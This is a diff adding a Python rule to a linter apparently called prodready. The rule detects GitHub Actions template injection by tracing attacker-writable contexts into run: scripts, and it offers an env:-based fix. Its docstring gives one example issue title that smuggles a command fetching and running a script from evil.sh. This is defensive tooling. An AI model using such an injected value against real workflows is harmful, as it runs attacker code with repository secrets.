@@ -1,0 +1,453 @@
+"""GHA: GitHub Actions workflow security — template injection, dangerous triggers, persisted
+checkout credentials."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from typing import Any, NamedTuple
+
+from prodready.findings import Severity, Violation
+from prodready.project import Project
+from prodready.project.expressions import fenced, flowing_contexts
+from prodready.project.workflows import (
+    Expression,
+    Script,
+    Step,
+    declared_inputs,
+    env_value,
+    is_action,
+    job_of,
+    jobs,
+    shell_of,
+)
+from prodready.project.yamldoc import YamlDoc
+from prodready.rules import rule
+
+# Events that run with the base repository's secrets and a token that can write, for people
+# with no access to the repository: whatever they put in the event's payload reaches the job.
+PRIVILEGED = frozenset(
+    {
+        "pull_request_target",
+        "issues",
+        "issue_comment",
+        "discussion",
+        "discussion_comment",
+        "workflow_run",
+    }
+)
+PR_EVENTS = frozenset(
+    {"pull_request_target", "pull_request", "pull_request_review", "pull_request_review_comment"}
+)
+# Text anyone with a GitHub account can write, and the events whose payload carries it.
+_COMMIT = r"(?:message|author\.(?:name|email)|committer\.(?:name|email))"
+EXTERNAL: tuple[tuple[re.Pattern[str], frozenset[str]], ...] = tuple(
+    (re.compile(pattern), frozenset(events))
+    for pattern, events in (
+        (r"github\.event\.issue\.(?:title|body)", {"issues", "issue_comment"}),
+        (
+            r"github\.event\.pull_request\.(?:title|body|head\.ref|head\.label"
+            r"|head\.repo\.(?:name|full_name|description|homepage|default_branch))",
+            PR_EVENTS,
+        ),
+        (r"github\.head_ref", PR_EVENTS),
+        (
+            r"github\.event\.comment\.body",
+            {
+                "issue_comment",
+                "discussion_comment",
+                "pull_request_review_comment",
+                "commit_comment",
+            },
+        ),
+        (r"github\.event\.review\.body", {"pull_request_review"}),
+        (r"github\.event\.discussion\.(?:title|body)", {"discussion", "discussion_comment"}),
+        (r"github\.event\.(?:head_commit|commits\.\*)\." + _COMMIT, {"push"}),
+        (
+            r"github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\."
+            + _COMMIT
+            + r"|pull_requests\.\*\.head\.ref|head_repository\.(?:name|full_name|description))",
+            {"workflow_run"},
+        ),
+        (r"github\.event\.changes\.(?:title|body)\.from", {"issues", "pull_request_target"}),
+        (r"github\.event\.pages\.\*\.page_name", {"gollum"}),
+    )
+)
+# Contexts whose values are fixed by GitHub or the repository's owners, or can hold no shell
+# syntax (logins, numbers, commit ids, `branch`/`tag`, `true`).
+FIXED = re.compile(
+    r"(?:secrets|vars|runner|job|jobs|strategy|steps\.[^.]+\.(?:outcome|conclusion)"
+    r"|needs\.[^.]+\.result)(?:\..*)?"
+    r"|github\.(?:sha|run_id|run_number|run_attempt|repository|repository_id|repository_owner"
+    r"|repository_owner_id|repositoryurl|workspace|action_path|action|action_ref|action_repository"
+    r"|action_status|event_name|job|server_url|api_url|graphql_url|token|actor|actor_id"
+    r"|triggering_actor|ref_type|ref_protected|retention_days|workflow|workflow_ref|workflow_sha"
+    r"|path|env|output|secret_source)"
+)
+FIXED_LEAF = re.compile(
+    r"(?:\w*_)?(?:sha|id|number|url|at|count|login|state|draft|merged|fork|private|size|before"
+    r"|after|conclusion|status|distinct|timestamp|additions|deletions|changed_files|commits"
+    r"|comments|locked|forced|created|deleted|ref_type|type|author_association|action"
+    r"|run_number|run_attempt|event|head_sha|base_sha|merge_commit_sha|position|line)"
+)
+# Conditions that keep strangers out of a job or step: whose event, or who triggered it.
+GATE = re.compile(
+    r"author_association|github\.actor|triggering_actor|sender\.login|event_name|head\.repo\.fork"
+    r"|head\.repo\.full_name|\.user\.login"
+)
+NONE, TEXT, EXTERNAL_TEXT = 0, 1, 2
+RUNNER_VARIABLES = {
+    "github.head_ref": "GITHUB_HEAD_REF",
+    "github.base_ref": "GITHUB_BASE_REF",
+    "github.ref": "GITHUB_REF",
+    "github.ref_name": "GITHUB_REF_NAME",
+}
+NAME_SAFE = re.compile(r"[a-z_][\w-]*(?:\.[a-z_][\w-]*)+")
+QUOTED_HEREDOC = re.compile(r"<<-?\s*(?:'|\"|\\)")
+
+
+class Taint(NamedTuple):
+    """How far the text of a context can be chosen by someone: NONE, TEXT (by someone with
+    some access, or not known) or EXTERNAL_TEXT (by anyone); `certain` when it reaches a job
+    that runs with secrets for an event a stranger triggers, ungated."""
+
+    level: int
+    certain: bool = False
+    origin: str = ""
+
+    def worse(self, other: Taint) -> Taint:
+        return other if (other.level, other.certain) > (self.level, self.certain) else self
+
+
+class Scope(NamedTuple):
+    """Where an expression is evaluated: the document, the job, the step's own `env:`."""
+
+    doc: YamlDoc
+    job: dict[str, Any]
+    step: dict[str, Any]
+    triggers: frozenset[str]
+    before: tuple[dict[str, Any], ...] = ()  # the steps of the job that run before this one
+
+
+def _gated(scope: Scope) -> bool:
+    conditions = f"{scope.job.get('if', '')} {scope.step.get('if', '')}"
+    return bool(GATE.search(conditions))
+
+
+def _context_taint(p: Project, context: str, scope: Scope, depth: int) -> Taint:
+    """The taint of one context (a lower-case dotted pattern) in a scope."""
+    if depth > 6 or FIXED.fullmatch(context):
+        return Taint(NONE)
+    for pattern, events in EXTERNAL:
+        if pattern.fullmatch(context):
+            reached = events & scope.triggers & PRIVILEGED
+            return Taint(EXTERNAL_TEXT, bool(reached) and not _gated(scope), context)
+    head, _, rest = context.partition(".")
+    if context.startswith("github.event.inputs."):
+        head, rest = "inputs", context.removeprefix("github.event.inputs.")
+    if head == "inputs":
+        return _input_taint(p, rest, scope, depth)
+    if head == "env":
+        return _env_taint(p, rest, scope, depth)
+    if head == "matrix":
+        return _matrix_taint(p, rest, scope, depth)
+    if head == "github":
+        if context.startswith("github.event."):
+            leaf = context.rpartition(".")[2]
+            return Taint(NONE) if FIXED_LEAF.fullmatch(leaf) else Taint(TEXT, False, context)
+        if context in ("github.ref", "github.ref_name", "github.base_ref", "github.event"):
+            return Taint(TEXT, False, context)
+        return Taint(NONE)
+    return Taint(NONE)  # step and job outputs, functions of them: not followed
+
+
+def _input_taint(p: Project, name: str, scope: Scope, depth: int) -> Taint:
+    """A string input is text its caller chooses; a local caller's value is followed."""
+    kind = declared_inputs(scope.doc).get(name)
+    if kind in ("boolean", "number", "choice", "environment"):
+        return Taint(NONE)
+    taint = Taint(TEXT, False, f"inputs.{name}" if name else "inputs")
+    for call in p.workflows.callers_of(scope.doc.path):
+        value = next((v for k, v in call.with_.items() if str(k).lower() == name), None)
+        if isinstance(value, str):
+            job = dict(jobs(call.doc)).get(call.job, {}) if not is_action(call.doc) else {}
+            caller = Scope(call.doc, job, {}, frozenset(p.workflows.effective_triggers(call.doc)))
+            found = _text_taint(p, value, caller, depth + 1)
+            if found.level == EXTERNAL_TEXT:
+                taint = taint.worse(found)
+    return taint
+
+
+def _env_taint(p: Project, name: str, scope: Scope, depth: int) -> Taint:
+    """A variable set by `env:` is as tainted as its value; one set elsewhere (`$GITHUB_ENV`)
+    is not followed."""
+    for env in (scope.step.get("env"), scope.job.get("env"), _data(scope.doc).get("env")):
+        if isinstance(env, dict):
+            for key, value in env.items():
+                if str(key).lower() == name:
+                    return _text_taint(p, str(value), scope, depth + 1)
+    # written to $GITHUB_ENV by an earlier step: as tainted as what that step expands
+    taint = Taint(NONE)
+    written = re.compile(rf"(?<![\w-]){re.escape(name)}=", re.I)
+    for step in scope.before:
+        script = str(step.get("run", ""))
+        if "GITHUB_ENV" in script and written.search(script):
+            env = step.get("env")
+            values = (
+                [script, *(str(v) for v in env.values())] if isinstance(env, dict) else [script]
+            )
+            inner = scope._replace(step=step, before=())
+            for value in values:
+                taint = taint.worse(_text_taint(p, value, inner, depth + 1))
+    return taint
+
+
+def _matrix_taint(p: Project, name: str, scope: Scope, depth: int) -> Taint:
+    """A matrix value written in the workflow is fixed; one computed (`fromJSON(...)`) or
+    holding expressions is as tainted as they are, and an unknown one is text."""
+    strategy = scope.job.get("strategy")
+    matrix = strategy.get("matrix") if isinstance(strategy, dict) else None
+    if isinstance(matrix, str):
+        found = _text_taint(p, matrix, scope, depth + 1)
+        return found if found.level else Taint(TEXT, False, f"matrix.{name}")
+    if not isinstance(matrix, dict):
+        return Taint(NONE)
+    key = name.partition(".")[0]
+    values = [v for k, v in matrix.items() if str(k).lower() == key]
+    include = matrix.get("include")
+    if isinstance(include, str):
+        values.append(include)
+    for entry in include if isinstance(include, list) else []:
+        if isinstance(entry, dict):
+            values += [v for k, v in entry.items() if str(k).lower() == key]
+    taint = Taint(NONE)
+    for value in values:
+        taint = taint.worse(_text_taint(p, repr(value), scope, depth + 1))
+        if isinstance(value, str) and value.strip().startswith("${{") and not taint.level:
+            taint = Taint(TEXT, False, f"matrix.{name}")
+    return taint
+
+
+def _text_taint(p: Project, text: str, scope: Scope, depth: int) -> Taint:
+    """The worst taint of the expressions in a text."""
+    taint = Taint(NONE)
+    for _, inner in fenced(text):
+        for context in flowing_contexts(inner) or []:
+            taint = taint.worse(_context_taint(p, context, scope, depth))
+    return taint
+
+
+def _data(doc: YamlDoc) -> dict[str, Any]:
+    return doc.data if isinstance(doc.data, dict) else {}
+
+
+def _scope(p: Project, step: Step) -> Scope:
+    job = job_of(step)
+    if step.in_action:
+        runs = _data(step.doc).get("runs")
+        listed = runs.get("steps") if isinstance(runs, dict) else None
+    else:
+        listed = job.get("steps")
+    before = tuple(
+        s
+        for s in (listed if isinstance(listed, list) else [])[: step.position]
+        if isinstance(s, dict)
+    )
+    return Scope(
+        step.doc, job, step.data, frozenset(p.workflows.effective_triggers(step.doc)), before
+    )
+
+
+class Injection(NamedTuple):
+    script: Script
+    expression: Expression
+    taint: Taint
+    context: str  # the one context of the expression, when it is nothing else
+
+
+def injections(p: Project) -> Iterator[Injection]:
+    """Every expression of a script that can bring in text someone else chose."""
+    for script in p.workflows.scripts:
+        scope = _scope(p, script.step)
+        for expression in script.expressions:
+            flows = flowing_contexts(expression.inner)
+            taint = Taint(NONE)
+            for context in flows or []:
+                taint = taint.worse(_context_taint(p, context, scope, 0))
+            if taint.level:
+                inner = expression.inner.strip()
+                single = inner.lower() if flows == [inner.lower()] else ""
+                yield Injection(script, expression, taint, single)
+
+
+@rule(
+    "GHA001",
+    "template-injection",
+    severity="E",
+    fix="safe",
+    source="GitHub Docs, Security hardening for GitHub Actions: understanding the risk of script injections (https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)",
+    peers=("zizmor:template-injection", "scorecard:Dangerous-Workflow"),
+)
+def template_injection(p: Project) -> Iterator[Violation]:
+    """A `${{ }}` expression that someone else can write is expanded inside a script.
+
+    ## What it does
+    Reads the expressions inside `run:` scripts and inside the inputs that actions run as code
+    (`actions/github-script`'s `script:`, and the others of CodeQL's list of injection sinks),
+    in workflows and in the repository's composite actions, and reports each whose text can be
+    chosen by someone else: the title or body of an issue, a pull request, a comment, a review
+    or a discussion, a pull request's branch (`github.head_ref`, `head.ref`), a commit message
+    or author, the branch of a `workflow_run`, string inputs of `workflow_dispatch` and
+    `workflow_call` (and of composite actions), branch and tag names (`github.ref_name`,
+    `github.base_ref`), and the `env:` variables and matrix values computed from any of these.
+    Expressions are read as GitHub evaluates them: `contains(github.event.issue.title, 'bug')` or
+    `github.head_ref == 'main'` are booleans and stay quiet. Local reusable workflows and
+    composite actions are followed: an input is as dangerous as what a local caller passes.
+
+    It is an **error** when a stranger certainly controls the text and the job runs with the
+    repository's secrets for an event the stranger triggers (an issue's title in an `issues` or
+    `issue_comment` workflow, a pull request's title or branch under `pull_request_target`, a
+    `workflow_run`'s branch), unless the job or step runs only for some people or events (an
+    `if:` on `author_association`, `github.actor`, `github.event_name`, the pull request's
+    repository). Every other finding is a warning: the text comes from people with some access
+    (inputs, tags), or the job holds no secrets for strangers (`pull_request`).
+
+    Quiet for contexts that hold no shell syntax (commit ids, numbers, logins, `github.ref_type`,
+    `secrets.*`, `runner.*`), for booleans and choices of typed inputs, for matrix values written
+    in the workflow, and for step and job outputs (not followed).
+
+    ## Why it matters
+    GitHub pastes the expression's text into the script before the shell reads it: an issue
+    titled `a"; curl -sSf evil.sh | sh; echo "` runs the attacker's commands with the workflow's
+    token and secrets. Every year, projects lose their release credentials this way.
+
+    ## Example
+    ```yaml
+    on: issues
+    jobs:
+      triage:
+        runs-on: ubuntu-latest
+        steps:
+          - run: echo "New issue: ${{ github.event.issue.title }}"
+    ```
+
+    ## Use instead
+    ```yaml
+          - run: echo "New issue: $TITLE"
+            env:
+              TITLE: ${{ github.event.issue.title }}
+    ```
+
+    ## Fix
+    `prodready fix` moves an expression that is one context into the step's `env:` and has the
+    script read the variable (`"${TITLE}"`; `$env:TITLE` in PowerShell; the runner's own
+    `GITHUB_HEAD_REF` and `GITHUB_REF_NAME` are used as they are), in `run:` scripts of bash,
+    sh and pwsh only, and not where the expression sits inside single quotes or a quoted
+    here-document (where a variable would not expand). Scripts of `actions/github-script` read
+    the variable as `process.env.TITLE`: edit those by hand.
+    """
+    for found in injections(p):
+        script, expression, taint = found.script, found.expression, found.taint
+        where = (
+            "a run: script"
+            if script.is_run
+            else f"the {script.keys[-1]} input of {script.step.action}"
+        )
+        why = _why(taint)
+        line_start = script.step.doc.text.rfind("\n", 0, expression.offset) + 1
+        yield Violation(
+            f"{expression.raw.strip()} is expanded into {where}: {why}; pass it through env: instead",
+            script.step.doc.path,
+            expression.line,
+            expression.offset - line_start + 1,
+            _env_fix(p, found),
+            fixable=bool(_env_fix(p, found)),
+            severity=None if taint.certain else Severity.WARNING,
+        )
+
+
+def _why(taint: Taint) -> str:
+    origin = taint.origin
+    if taint.certain:
+        return f"anyone can write {origin} for an event that starts this job with its secrets"
+    if taint.level == EXTERNAL_TEXT:
+        return f"anyone can write {origin}"
+    if origin.startswith("inputs"):
+        return f"{origin} is chosen by whoever dispatches or calls the workflow"
+    if origin.startswith("matrix."):
+        return f"{origin} is computed while the workflow runs"
+    if origin in ("github.ref", "github.ref_name", "github.base_ref") or origin.endswith("ref"):
+        return f"{origin} is a branch or tag name, chosen by whoever pushes it"
+    return f"{origin} is text written by whoever starts the event"
+
+
+def _env_fix(p: Project, found: Injection) -> tuple[str | int, ...]:
+    """What the fixer needs to move the expression into `env:`: (variable, text to write in the
+    script, the expression as written, key path of the script), or () where no safe fix is
+    known."""
+    script, context = found.script, found.context
+    if not script.is_run or not context or not NAME_SAFE.fullmatch(context):
+        return ()
+    shell = shell_of(script.step).split()[0] if shell_of(script.step).strip() else ""
+    runs_on = str(job_of(script.step).get("runs-on", "")).lower()
+    if shell == "" and not script.step.in_action:
+        shell = "pwsh" if "windows" in runs_on else "bash"
+    if shell not in ("bash", "sh", "pwsh"):
+        return ()
+    if context.startswith("env."):
+        name = context[4:]
+        if env_value(script.step, name) is None or not re.fullmatch(r"[A-Za-z_]\w*", name):
+            name = ""
+        else:
+            # `${{ env.X }}` and `$X` are the same text only when `env:` spells X in this case
+            name = next((k for k in _env_names(script.step) if k == name or k.lower() == name), "")
+    else:
+        name = RUNNER_VARIABLES.get(context) or context.replace("-", "_").replace(".", "_").upper()
+        value = env_value(script.step, name)
+        if value is not None and " ".join(str(value).split()) != f"${{{{ {context} }}}}":
+            return ()  # the name is taken by another value
+    if not name:
+        return ()
+    raw = found.expression.raw
+    if not _expands_where_written(script, raw):
+        return ()
+    written = f"$env:{name}" if shell == "pwsh" else f"${{{name}}}"
+    return (name, written, raw, *script.keys)
+
+
+def _env_names(step: Step) -> list[str]:
+    job_env = job_of(step).get("env")
+    workflow = _data(step.doc).get("env")
+    names: list[str] = []
+    for env in (step.env, job_env, workflow):
+        names += [str(k) for k in env] if isinstance(env, dict) else []
+    return names
+
+
+def _expands_where_written(script: Script, raw: str) -> bool:
+    """True when a shell variable written where the expression is would expand: not inside
+    single quotes on its line, and the script has no quoted here-document."""
+    if QUOTED_HEREDOC.search(script.text):
+        return False
+    for line in script.text.splitlines():
+        at = line.find(raw)
+        while at >= 0:
+            if _in_single_quotes(line[:at]):
+                return False
+            at = line.find(raw, at + 1)
+    return raw in script.text
+
+
+def _in_single_quotes(prefix: str) -> bool:
+    quote = ""
+    escaped = False
+    for char in prefix:
+        if escaped:
+            escaped = False
+        elif char == "\\" and quote != "'":
+            escaped = True
+        elif quote:
+            quote = "" if char == quote else quote
+        elif char in "'\"":
+            quote = char
+    return quote == "'"
